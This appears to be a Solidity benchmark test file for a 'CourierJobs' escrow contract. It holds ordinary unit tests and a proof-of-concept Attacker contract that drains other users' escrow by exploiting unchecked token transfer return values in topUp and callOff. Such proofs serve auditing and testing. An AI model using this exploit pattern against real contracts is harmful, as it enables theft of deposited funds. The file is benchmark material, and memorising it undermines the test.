pragma solidity 0.5.17;

import "./CourierJobs.sol";

// assay-canary-feadb951-b74c-4d3f-a1f3-358ae8c9b0e1

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A token that answers false where it cannot move.
contract Token {
    address private maker = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    bool public halted;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        balanceOf[to] += amount;
        totalSupply += amount;
    }

    function halt(bool yes) external {
        require(msg.sender == maker, "maker only");
        halted = yes;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount) return false;
        if (!_move(from, to, amount)) return false;
        allowance[from][msg.sender] -= amount;
        return true;
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        if (halted || balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1700000000;

    Token public token;
    CourierJobs private jobs;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        jobs = new CourierJobs(IERC20(address(token)));
        token.mint(ANA, 2000e18);
        vm.startPrank(ANA);
        token.approve(address(jobs), 2000e18);
        jobs.post(BEN, 600e18, 10);
        jobs.post(CAT, 300e18, 20);
        vm.stopPrank();
        mallory = new Attacker(jobs, token);
        token.mint(address(mallory), 1e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        jobs.topUp(0, 100e18);
        jobs.confirm(0);
        require(token.balanceOf(BEN) == 700e18, "delivered");
        uint256 id = jobs.post(BEN, 50e18, 1);
        vm.stopPrank();
        vm.prank(CAT);
        jobs.decline(1);
        require(token.balanceOf(ANA) == 1250e18, "declined");
        vm.warp(START + 4 days);
        vm.prank(ANA);
        jobs.callOff(id);
        require(token.balanceOf(ANA) == 1300e18 && token.balanceOf(address(jobs)) == 0, "called off");
    }

    function test_RefusesOpening() public {
        vm.expectRevert("no token");
        new CourierJobs(IERC20(address(0)));
    }

    function test_RefusesPosts() public {
        vm.startPrank(ANA);
        vm.expectRevert("no courier");
        jobs.post(address(0), 1, 1);
        vm.expectRevert("no reward");
        jobs.post(BEN, 0, 1);
        vm.expectRevert("bad time");
        jobs.post(BEN, 1, 0);
        vm.expectRevert("bad time");
        jobs.post(BEN, 1, 61);
        vm.expectRevert("not collected");
        jobs.post(BEN, 1101e18, 1);
        vm.expectRevert("no amount");
        jobs.topUp(0, 0);
        vm.expectRevert("not overdue");
        jobs.callOff(0);
        vm.stopPrank();
        vm.warp(START + 12 days);
        vm.prank(ANA);
        vm.expectRevert("not overdue");
        jobs.callOff(0);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("not the sender");
        jobs.topUp(0, 1);
        vm.expectRevert("not the sender");
        jobs.confirm(0);
        vm.warp(START + 30 days);
        vm.expectRevert("not the sender");
        jobs.callOff(0);
        vm.expectRevert("not the courier");
        jobs.decline(1);
        vm.stopPrank();
    }

    function test_RefusesClosed() public {
        vm.startPrank(ANA);
        jobs.confirm(0);
        vm.expectRevert("closed");
        jobs.confirm(0);
        vm.expectRevert("closed");
        jobs.topUp(0, 1e18);
        vm.warp(START + 30 days);
        vm.expectRevert("closed");
        jobs.callOff(0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("closed");
        jobs.decline(0);
    }

    function test_RefusesUnpaid() public {
        token.halt(true);
        vm.prank(ANA);
        vm.expectRevert("not paid");
        jobs.confirm(0);
    }

    function exploit() public {
        mallory.open();
        vm.warp(START + 3 days + 1);
        mallory.finish();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 901e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(jobs);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CourierJobs private jobs;
    Token private token;
    uint256 private id;

    constructor(CourierJobs _jobs, Token _token) public {
        jobs = _jobs;
        token = _token;
    }

    function open() external {
        uint256 there = token.balanceOf(address(jobs));
        token.approve(address(jobs), 1e18);
        id = jobs.post(address(1), 1e18, 1);
        jobs.topUp(id, there);
    }

    function finish() external {
        jobs.callOff(id);
    }
}
